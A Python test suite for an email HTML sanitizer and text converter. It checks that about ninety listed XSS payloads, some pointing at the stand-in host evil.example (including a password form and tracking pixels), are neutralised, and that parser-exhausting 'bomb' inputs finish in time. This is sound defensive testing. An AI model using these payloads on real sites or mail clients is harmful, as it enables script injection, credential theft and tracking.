"""HTML of strangers: harmless once cleaned, readable as text, and no bomb."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridge.markup.htmlclean import clean
from bridge.markup.htmlscan import ATTRIBUTES, DEEPEST, TAGS, tokens
from channels.email.htmltext import to_text

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src='x' ONERROR\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    '<img src="javascript:alert(1)">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='cid:x'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='background-image:url(//evil.example/x)'>x</p>",
    "<p style='color:red;width:expression(alert(1))'>x</p>",
    "<p style='color:re\\64;background-color:\\75rl(//evil.example)'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<div style='border:1px url(//evil.example/x)'>x</div>",
    "<table background='//evil.example/x'><tr><td background=//evil.example/y>x</td></tr></table>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=https://evil.example/pixel.gif width=1>",
    "<img srcset='https://evil.example/a 1x'>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>",
    "<video src=//evil.example/x poster=//evil.example/y autoplay></video>",
    "<audio src=//evil.example/x autoplay onplay=alert(1)></audio>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='cid:unknown'>",
    "<img src='file:///etc/passwd'>",
    "<img src='blob:x'>",
    "<a href='//evil.example'>x</a>",
    "<a href='/api/agents'>x</a>",
    "<a href='https://good.example' onclick=alert(1) target=_self>x</a>",
    "<a name=x id=y class=z>x</a>",
    "<div id=app class=modal>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    "<p title=\"'><img src=x onerror=alert(1)>\">x</p>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>alert(1)//<</script>",
    "<img src=x:alert(1) alt=x onerror=eval(src)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    '<a href="https://x.example/\u2028javascript:alert(1)">x</a>',
    "<table><td><a href='javascript:alert(1)'><b>x</table>",
    "<p" + " a=b" * 2000 + " onclick=alert(1)>x</p>",
    "\x00<script\x00>alert(1)</script>",
    "<sc\x00ript>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<img src=x onerror\u00a0=alert(1)>",
]  # fmt: skip
LOADS_NOTHING = re.compile(r"remote:https?://.*|/media/[0-9a-f]+|data:image/(png|gif|jpeg|webp);.*")
LEADS = re.compile(r"(https?|mailto|tel):.*", re.DOTALL)
ALLOWED = (ATTRIBUTES - {"start"}) | {"start", "rel", "target"}


class Strict(HTMLParser):
    """Reads what was cleaned, and fails over whatever could act or load."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED, name
            if name == "src":
                assert LOADS_NOTHING.fullmatch(value or ""), value
            elif name == "href":
                assert LEADS.fullmatch(value or ""), value
            elif name == "style":
                assert not re.search(
                    r"url|expression|import|position|binding|behavior|\\", value or ""
                )

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)


def check(html: str) -> str:
    cleaned = clean(html, {"pic@1": "ab12"})
    reader = Strict()
    reader.feed(cleaned)
    reader.close()
    return cleaned


@pytest.mark.parametrize("evil", XSS, ids=range(len(XSS)))
def test_nothing_that_acts_or_loads_is_left(evil: str) -> None:
    check(evil)
    check(f"<div><p>{evil}</p></div>")
    check(f'<table><tr><td title="{evil}">{evil}')


@given(
    st.lists(
        st.sampled_from(
            [*XSS, "<", ">", '"', "'", "=", "/", " ", "<p>", "</p>", "<table>", "<b", "-->"]
        ),
        max_size=8,
    )
)
def test_no_mixture_of_them_leaves_anything(pieces: list[str]) -> None:
    check("".join(pieces))
    to_text("".join(pieces))


@given(st.text(alphabet="<>/=\"' \nabpdivsrchrefonstyle&;#x!-", max_size=200))
def test_no_html_at_all_leaves_anything(html: str) -> None:
    check(html)
    to_text(html)


def test_a_picture_from_elsewhere_is_kept_but_not_loaded() -> None:
    assert '<img src="remote:https://a.example/x.png?y=1&amp;z=2"' in clean(
        "<img src='https://a.example/x.png?y=1&z=2'>"
    )


def test_a_picture_of_the_mail_itself_is_the_file_that_was_kept() -> None:
    assert '<img src="/media/ab12" alt="Cat"' in clean(
        "<img src=cid:pic@1 alt=Cat>", {"pic@1": "ab12"}
    )


def test_what_makes_a_mail_readable_is_left() -> None:
    html = (
        '<p style="color:red;text-align:center">a <b>b</b></p><ul><li>c</li></ul>'
        '<table border="1"><tbody><tr><td colspan="2">d</td></tr></tbody></table>'
    )
    assert clean(html) == html


def test_links_open_elsewhere_and_tell_nothing() -> None:
    cleaned = clean("<a href='https://a.example/?x=1&y=2'>x</a>")
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'target="_blank"' in cleaned
    assert 'href="https://a.example/?x=1&amp;y=2"' in cleaned


BOMBS = {
    "deep": "<div>" * 200_000,
    "deep and closed": "<div>" * 90_000 + "</div>" * 90_000,
    "deep in odd spelling": "<div/x='<'>" * 90_000,
    "tables": "<table><tr><td>" * 60_000,
    "formats": "<b><i><u><s>" * 80_000,
    "formats of their own": "".join(f"<font color={n}>" for n in range(40_000)) + "<p>x" * 20_000,
    "misnested": "<b><p></b><i></p>" * 50_000,
    "anchors": "<a href=x><div>" * 60_000,
    "attributes": "<p" + "".join(f" a{n}=1" for n in range(150_000)) + ">",
    "same attribute": "<p" + " title=1" * 120_000 + ">",
    "open tag": "<" * 1_000_000,
    "open comment": "<!--" * 250_000,
    "open quote": '<a x="' * 160_000,
    "open script": "<script>" * 120_000,
    "entities": "&amp" * 250_000 + "&#x" * 100_000,
    "spaces": "<p" + " " * 900_000 + "x",
    "closing": "</p>" * 250_000,
    "closing of what is not open": "<div>" * 99 + "</b>" * 240_000,
    "lists": "<li>" * 250_000,
    "names": "<" + "a" * 900_000,
    "quotes": "<blockquote>" * 80_000 + "x",
    "nbsp": "&nbsp;" * 160_000,
    "brs": "<br>" * 250_000,
}  # fmt: skip


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_cleaned_and_read_in_time(bomb: str) -> None:
    begun = time.perf_counter()
    cleaned = clean(BOMBS[bomb])
    to_text(BOMBS[bomb])
    # Two cores, shared: alone it is below one second.
    assert time.perf_counter() - begun < 12
    assert len(cleaned) < 12_000_000


@given(
    st.lists(
        st.sampled_from(["<div>", "</div>", "<p>", "<b>", "</b>", "<br>", "x", "<li>", "</table>"]),
        max_size=60,
    )
)
def test_the_stream_is_always_balanced_and_never_deep(pieces: list[str]) -> None:
    open_now: list[str] = []
    for token in tokens("".join(pieces)):
        if token.kind == "open" and token.name != "br":
            open_now.append(token.name)
        elif token.kind == "close":
            assert open_now.pop() == token.name
        assert len(open_now) <= DEEPEST
    assert not open_now


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("one<br>two<br/><br />three", "one\ntwo\n\nthree"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("  a\n  b\t c ", "a b c"),
        ("<b>a</b> <i>b</i>c", "a bc"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a  b\nc"),
        ("a<blockquote>b<br>c</blockquote>d", "a\n> b\n> c\nd"),
        ("<blockquote><blockquote>a</blockquote>b</blockquote>", "> > a\n> b"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<a href='https://a.example/x'>here</a>", "here (https://a.example/x)"),
        ("<a href='https://a.example/'>https://a.example</a>", "https://a.example"),
        ("<a href='https://a.example/'>a.example</a>", "a.example"),
        ("<a href='mailto:a@b.cd'>a@b.cd</a>", "a@b.cd"),
        ("<a href='javascript:x'>here</a>", "here"),
        ("<a href='https://a.example/x'><img src=x></a>", "https://a.example/x"),
        ("<img alt='A cat' src=x>", "[A cat]"),
        ("&lt;b&gt; &amp; &nbsp;&#1055;&#x1F424;", "<b> &  П🐤"),
        ("<style>p{}</style><title>t</title><script>s</script>x", "x"),
        ("a <!-- b --> c", "a c"),
        ("1 < 2 > 0 & 3", "1 < 2 > 0 & 3"),
        ("<h1>T</h1>x", "T\n\nx"),
        ("", ""),
    ],
)
def test_html_is_read_as_people_read_it(html: str, text: str) -> None:
    assert to_text(html) == text
